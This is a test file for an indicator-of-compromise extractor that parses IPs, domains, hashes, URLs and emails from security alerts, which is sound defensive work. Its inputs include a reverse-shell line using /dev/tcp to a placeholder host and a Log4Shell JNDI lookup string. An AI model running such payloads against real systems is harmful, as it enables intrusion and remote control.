import { describe, expect, it } from '@jest/globals';
import { extractIocs } from './iocs.js';

const MD5 = 'd41d8cd98f00b204e9800998ecf8427e';
const SHA256 = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855';

describe('extractIocs', () => {
  it('finds indicators of every kind, in fields and in running text', () => {
    expect(
      extractIocs({
        src_ip: '10.0.0.1',
        text: `Connection from 203.0.113.9:443 and [2001:db8::1] to https://evil.example/a?b=1, by Mallory@Example.ORG.`,
        file: { hashes: [MD5, `SHA256=${SHA256}`] },
        dns: { domain: 'c2.example.net' },
      }),
    ).toEqual({
      ips: ['10.0.0.1', '203.0.113.9', '2001:db8::1'],
      domains: ['evil.example', 'example.org', 'c2.example.net'],
      hashes: [MD5, SHA256.toLowerCase()],
      urls: ['https://evil.example/a?b=1'],
      emails: ['mallory@example.org'],
    });
  });

  it('names each indicator once', () => {
    expect(extractIocs(['10.0.0.1', { a: '10.0.0.1 10.0.0.1' }]).ips).toEqual(['10.0.0.1']);
  });

  const found = (value: unknown, key = 'text') =>
    Object.fromEntries(
      Object.entries(extractIocs({ [key]: value })).filter(([, values]) => values.length > 0),
    );

  it.each<[string, Record<string, string[]>]>([
    ['10.1.2.3, 8.8.8.8:53 and (1.1.1.1)', { ips: ['10.1.2.3', '8.8.8.8', '1.1.1.1'] }],
    ['198.51.100.0/24 was scanned', { ips: ['198.51.100.0'] }],
    [
      'fe80::1 2606:4700:4700::1111 ::ffff:10.0.0.1',
      { ips: ['10.0.0.1', 'fe80::1', '2606:4700:4700::1111'] },
    ],
    ['[2001:DB8::5]:443', { ips: ['2001:db8::5'] }],
    ['beacon to evil-site.co.uk.', { domains: ['evil-site.co.uk'] }],
    ['see xn--80ak6aa92e.com', { domains: ['xn--80ak6aa92e.com'] }],
    ['a query for c2.evil.ru, refused', { domains: ['c2.evil.ru'] }],
    ['ftp://files.evil.org/a', { domains: ['files.evil.org'], urls: ['ftp://files.evil.org/a'] }],
    ['(https://evil.org/a_(b)?c=d#e).', { domains: ['evil.org'], urls: ['https://evil.org/a_(b)?c=d#e'] }],
    ['<https://evil.org/x>;', { domains: ['evil.org'], urls: ['https://evil.org/x'] }],
    ['http://10.0.0.9:8080/a.exe', { ips: ['10.0.0.9'], urls: ['http://10.0.0.9:8080/a.exe'] }],
    ['from "Mallory" <mal.lory+x@Evil.org>', { domains: ['evil.org'], emails: ['mal.lory+x@evil.org'] }],
    [`MD5=${MD5},IMPHASH=${MD5.toUpperCase().replace('D', 'E')}`, { hashes: [MD5] }],
    [
      `${MD5} was fetched from https://evil.org/a`,
      { hashes: [MD5], domains: ['evil.org'], urls: ['https://evil.org/a'] },
    ],
    ['issued to CN=update.evil.org, O=Acme', { domains: ['update.evil.org'] }],
    ['CN=*.evil.org', { domains: ['evil.org'] }],
    ['bash -i >& /dev/tcp/203.0.113.9/8080 and udp/1.2.3.4', { ips: ['203.0.113.9', '1.2.3.4'] }],
    ['${jndi:ldap://c2.evil.org:1389/a}', { domains: ['c2.evil.org'] }],
    ['stratum+tcp://pool.evil.org:4444', { domains: ['pool.evil.org'] }],
    [
      'CEF:0|Acme|IDS|1|7|Beacon|5|dhost=c2.evil.org request=evil.org/gate.php',
      { domains: ['c2.evil.org', 'evil.org'] },
    ],
    [`sha1:${MD5}01234567`, { hashes: [`${MD5}01234567`] }],
    [SHA256, { hashes: [SHA256.toLowerCase()] }],
    [SHA256.repeat(2), { hashes: [SHA256.toLowerCase().repeat(2)] }],
    ['hxxps://evil[.]org/a', { domains: ['evil.org'], urls: ['https://evil.org/a'] }],
    ['hXXp[:]//evil(.)org', { domains: ['evil.org'], urls: ['http://evil.org'] }],
    ['h**p://evil{dot}org/', { domains: ['evil.org'], urls: ['http://evil.org/'] }],
    ['1[.]2[.]3[.]4', { ips: ['1.2.3.4'] }],
    ['drop[.]evil[.]sh and readme[.]md', { domains: ['drop.evil.sh', 'readme.md'] }],
    ['mallory[at]evil[dot]org', { domains: ['evil.org'], emails: ['mallory@evil.org'] }],
  ])('finds in %j', (text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  it.each([
    '1.2.3',
    '1.2.3.4.5',
    '300.1.1.1',
    '0.0.0.0',
    '10:20:30',
    'std::vector',
    'report.zip',
    'v1.2.3.4x',
    'v1.2.3.4',
    'version 10.0.0.1',
    'Build: 10.0.0.1',
    'Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36',
    'setup.exe',
    'readme.md and report.pdf',
    'install.sh, main.py, lib.rs, index.ts',
    'C:\\Users\\public\\update.com',
    '/opt/tool/evil.org/file',
    'user.name host.id rule.name process.pid',
    'System.Net.Http',
    'java.lang.String',
    'java.lang.NullPointerException: at com.acme.App.main(App.java)',
    'the login failed.It was tried again',
    'dc01.corp.local',
    'nobody@localhost',
    'root@dc01.local',
    '4.8.0',
    '00000000000000000000000000000000',
    '12345678901234567890123456789012',
    'deadbeef',
    'e.g. i.e. a.m.',
    'http://',
    '5C:9C:E1:09:78:87:F8:07',
    'git@github.com:acme/web.git',
    'sample.zip->eicar.com',
    'Ciphers aes256-gcm@openssh.com,curve25519-sha256@libssh.org',
    `csi-${SHA256}`,
    `docker-${SHA256}.scope`,
    `/opt/cache/${MD5}01234567/node`,
    `${MD5}.us-west1.gcp.cloud.es.local`,
    `C:\\Windows\\assembly\\${MD5}\\System.ni.dll+1f`,
    `arn:aws:guardduty:eu-west-1:123456789012:detector/${MD5}/finding/${MD5}`,
    `organizations/1/sources/2/findings/${MD5}`,
    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">',
  ])('finds nothing in %s', (text) => {
    expect(found(text)).toEqual({});
  });

  it('takes a field at its name', () => {
    expect(found('update.sh', 'query_domain')).toEqual({ domains: ['update.sh'] });
    expect(found('WWW.Evil.example.', 'dns.fqdn')).toEqual({ domains: ['www.evil.example'] });
    expect(found('dc01.corp.local', 'hostname')).toEqual({});
    expect(found('10.0.0.1', 'agent_version')).toEqual({});
    expect(found('120.0.0.0', 'user_agent')).toEqual({});
  });

  it('keeps examples where they are data, and leaves them where they explain', () => {
    const text = 'such as 192.0.2.1, 2001:db8::1 or www.example.com; not 8.8.8.8';
    expect(found(text, 'description')).toEqual({ ips: ['8.8.8.8'] });
    expect(found(text, 'log')).toEqual({
      ips: ['192.0.2.1', '8.8.8.8', '2001:db8::1'],
      domains: ['www.example.com'],
    });
  });

  it.each([
    ['agent_id', MD5],
    ['detectorId', MD5],
    ['resource.Arn', MD5],
    ['id', MD5],
    ['kibana.alert.uuid', SHA256],
    ['_id', SHA256],
    ['commit_sha', `${MD5}01234567`],
    ['tls.ja3.hash', MD5],
    ['messageId', '<a@evil.org>'],
    ['owner', 'analyst@acme.com'],
    ['results_link', 'https://splunk.acme.com/app'],
    ['references', 'https://attack.mitre.org/techniques/T1110'],
    ['remediation.text', 'See www.cisecurity.org'],
    ['kibana.alert.rule.parameters.query', 'not source.ip: 8.8.8.8'],
    ['signal.rule.note', 'www.elastic.co'],
    ['Event.#xmlns', 'http://schemas.microsoft.com/'],
    ['@odata.context', 'https://api.security.microsoft.com/api/$metadata'],
    ['container.image.repository', 'ghcr.io/acme/web'],
    ['FileName', 'eicar.com'],
    ['metadata.customerIDString', MD5],
    ['device.groups', MD5],
    ['docker.Actor.ID', SHA256],
    ['id', `automated-lead:${SHA256}`],
    ['dedup_key', MD5],
    ['serial_number', MD5],
    ['agent.build.original', `commit: ${MD5}01234567`],
    ['kibana.alert.group.id', SHA256],
    ['Endpoint.policy.applied.sha256', SHA256],
    ['_links.self.href', 'https://api.acme.com/alerts'],
    ['annotations.runbook_url', 'https://runbooks.prometheus.io/x'],
    ['imageURL', 'https://grafana.acme.com/x.png'],
    ['Vendor.Url', 'https://alas.aws.amazon.com/x'],
    ['SourceUrl', 'https://threats.acme.com/x'],
    ['assigner', 'cve@mitre.org'],
    ['contacts.email', 'security@acme.com'],
    ['UserName', 'j.kim'],
    ['eventSource', 'signin.amazonaws.com'],
    ['IncidentHash', MD5],
    ['event', 'session.network'],
  ])('takes nothing from the field %s, flat or nested', (path, value) => {
    expect(found(value, path)).toEqual({});
    const nested = path.split('.').reduceRight<unknown>((inner, key) => ({ [key]: inner }), value);
    expect(found(nested)).toEqual({});
  });

  it('takes an id for the hash of a file only where it is as long as a SHA-256', () => {
    expect(found(SHA256, 'id')).toEqual({ hashes: [SHA256.toLowerCase()] });
    expect(found(`https://www.virustotal.com/gui/file/${SHA256}`, 'permalink')).toEqual({
      hashes: [SHA256.toLowerCase()],
    });
  });

  it.each([
    ['query', 'panel.evil.pl'],
    ['tls.sni', 'paypal-login.support'],
    ['QueryName', 'CDN.evil.id'],
    ['dns.question.name', 'c2.evil.ai'],
    ['event', 'sign-in of mallory from c2.evil.ru'],
  ])('finds the domain in the field %s', (path, value) => {
    expect(found(value, path)).toEqual({ domains: [value.split(' ').at(-1)?.toLowerCase()] });
  });

  it.each([
    { dataType: 'fqdn', data: 'www.invoice.zip' },
    { type: 'domain', value: 'www.invoice.zip' },
    { ioc_type: 'Hostname', ioc_value: 'www.invoice.zip' },
    { name: 'query', value: 'www.invoice.zip' },
  ])('takes a value by what stands beside it: %j', (observable) => {
    expect(found([observable])).toEqual({ domains: ['www.invoice.zip'] });
    expect(found([{ name: 'Message-ID', value: '<a@evil.org>' }])).toEqual({});
  });

  it('reads JSON inside of a text by its fields', () => {
    const text = JSON.stringify({ ja3: MD5, md5: MD5.replace('d', 'e'), agent_id: MD5 });
    expect(found({ original: text })).toEqual({ hashes: [MD5.replace('d', 'e')] });
  });

  it('leaves out the links that lead to the alert itself', () => {
    const links = { a: 'https://siem.acme.com/alerts/inc-4711?tab=1', b: 'https://evil.org/inc-47112' };
    expect(extractIocs(links, 'inc-4711')).toMatchObject({
      urls: ['https://evil.org/inc-47112'],
      domains: ['evil.org'],
    });
  });

  it("leaves the links of GitHub's objects to each other alone", () => {
    const repository = {
      node_id: 'R_1',
      url: 'https://api.github.com/repos/acme/web',
      homepage: 'https://evil.org/',
    };
    expect(found(repository)).toEqual({ domains: ['evil.org'], urls: ['https://evil.org/'] });
  });

  it('takes no time over texts that are made to cost some', () => {
    for (const part of ['a.', 'a-', '1.', ':', 'a@', '[.]', 'http://', ')', 'hxxp', '(at)']) {
      const texts = Array.from({ length: 50 }, () => part.repeat(20_000 / part.length));
      expect(extractIocs(texts)).toBeDefined();
    }
  });

  it('leaves out of a link what no link and no table can hold', () => {
    expect(extractIocs('http://evil.org/a\0b http://evil.org/\ud800c').urls).toEqual([
      'http://evil.org/a',
      'http://evil.org/',
    ]);
  });

  it('finds a bounded number', () => {
    const addresses = Array.from({ length: 500 }, (_, i) => `10.0.${i >> 8}.${i & 255}`);
    expect(extractIocs({ addresses }).ips).toEqual(addresses.slice(0, 200));
  });

  it.each([null, 5, 'text', [], {}])('takes %j', (payload) => {
    expect(Object.keys(extractIocs(payload))).toEqual(['ips', 'domains', 'hashes', 'urls', 'emails']);
  });
});
